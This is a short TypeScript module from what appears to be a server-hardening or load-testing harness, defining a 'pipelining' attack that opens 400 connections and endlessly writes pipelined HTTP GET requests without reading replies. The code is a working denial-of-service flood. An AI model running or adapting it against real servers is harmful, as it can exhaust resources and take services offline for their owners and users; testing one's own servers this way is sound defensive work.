import type { AttackClass } from "../attack-class.ts";

const CONNECTIONS = 400;
const AT_ONCE = 200;

export const pipelining: AttackClass = {
  name: "pipelining",
  does: "400 connections send requests endlessly and read no answer",
  from: ["elsewhere", "beside", "spread"],
  lands: ["written"],
  async run(attacker) {
    const { host, port } = attacker.place;
    const request = `GET /openapi.json HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`.repeat(AT_ONCE);
    await attacker.crowd(CONNECTIONS, async () => {
      const socket = await attacker.open();
      socket.pause();
      let isGone = false;
      const gone = new Promise<void>((resolve) =>
        socket.once("close", () => {
          isGone = true;
          resolve();
        }),
      );
      while (!isGone && !attacker.isOver) {
        attacker.count("written", AT_ONCE);
        if (socket.write(request)) await attacker.rest(1);
        else await Promise.race([gone, new Promise((resolve) => socket.once("drain", resolve))]);
      }
      attacker.count("cut");
    });
  },
};
